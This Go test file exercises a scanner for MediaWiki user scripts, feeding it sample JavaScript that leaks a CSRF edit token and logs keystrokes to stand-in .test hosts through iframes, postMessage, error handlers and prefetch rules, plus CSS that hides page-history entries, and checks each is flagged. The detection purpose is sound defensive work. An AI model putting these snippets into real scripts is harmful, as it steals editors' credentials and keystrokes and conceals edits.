package sandbox

import (
	"slices"
	"strings"
	"testing"

	"sallyport/internal/trace"
)

// What leaves without being sent as a whole, or stays without being seen to: each of these was missed once.
func TestSecretsThatLeaveInRoundaboutWaysAreFound(t *testing.T) {
	r := lookAt(t, Quick, `const token = mw.user.tokens.get( 'csrfToken' );
const frame = document.createElement( 'iframe' );
frame.src = 'https://message.test/';
frame.onload = () => frame.contentWindow.postMessage( { t: token }, '*' );
document.body.append( frame );
document.body.append( Object.assign( document.createElement( 'iframe' ), { src: 'https://frame.test/#' + token } ) );
addEventListener( 'visibilitychange', () => location.assign( 'https://address.test/#' + token ) );
document.addEventListener( 'keypress', ( e ) => { new Image().src = 'https://letters.test/?k=' + encodeURIComponent( e.key ); } );
window.onerror = ( message ) => { new Image().src = 'https://fault.test/?' + encodeURIComponent( message + token ); };
const rules = Object.assign( document.createElement( 'script' ), { type: 'speculationrules' } );
rules.textContent = JSON.stringify( { prefetch: [ { urls: [ 'https://ahead.test/?' + encodeURIComponent( token ) ] } ] } );
document.head.append( rules );
rules.remove();
`).Report
	for host, what := range map[string]string{
		"message.test": "your edit token", "frame.test": "your edit token", "address.test": "your edit token", "fault.test": "your edit token", "letters.test": "what you type", "ahead.test": "your edit token",
	} {
		if !slices.ContainsFunc(r.Findings, func(f trace.Finding) bool {
			return f.Rule == "leak" && f.Stage == trace.Natural && strings.HasPrefix(f.Message, "sends "+what+" to "+host)
		}) {
			t.Errorf("%s to %s is not told", what, host)
		}
	}
	if t.Failed() {
		for _, f := range r.Findings {
			t.Log(f.Severity, f.Rule, f.Stage, f.Message)
		}
	}
}

func TestMessagesAndAddressesWithoutASecretAreNoLeak(t *testing.T) {
	r := lookAt(t, Quick, `const frame = document.createElement( 'iframe' );
frame.src = 'https://message.test/#lamp';
frame.onload = () => frame.contentWindow.postMessage( { play: mw.config.get( 'wgPageName' ) }, '*' );
document.body.append( frame );
document.addEventListener( 'keypress', ( e ) => { document.body.dataset.lamp = e.key; } );
window.onerror = ( message ) => { document.body.dataset.fault = message; };
mw.util.addCSS( '.lamp { display: none; } #pagehistory { color: grey; }' );
mw.notify( Object.keys( localStorage ).length );
document.head.append( Object.assign( document.createElement( 'script' ), { type: 'speculationrules', textContent: '{"prefetch":[{"urls":["/wiki/Harbour"]}]}' } ) );
`).Report
	for _, f := range r.Findings {
		if f.Rule == "leak" || f.Rule == "persist" || f.Rule == "conceal" || f.Rule == "keys" {
			t.Errorf("%s: %s", f.Rule, f.Message)
		}
	}
}

func TestRulesThatHideTracksOnOtherPagesAreTold(t *testing.T) {
	r := lookAt(t, Quick, `mw.util.addCSS( '#pagehistory li[data-mw-revid="1"] { display: none !important; }' );
new mw.Api().postWithToken( 'csrf', { action: 'edit', title: 'Harbour', text: 'x' } );
`).Report
	if !slices.ContainsFunc(r.Findings, func(f trace.Finding) bool { return f.Rule == "conceal" && strings.Contains(f.Message, "#pagehistory") }) {
		t.Errorf("told is %+v", r.Findings)
	}
}
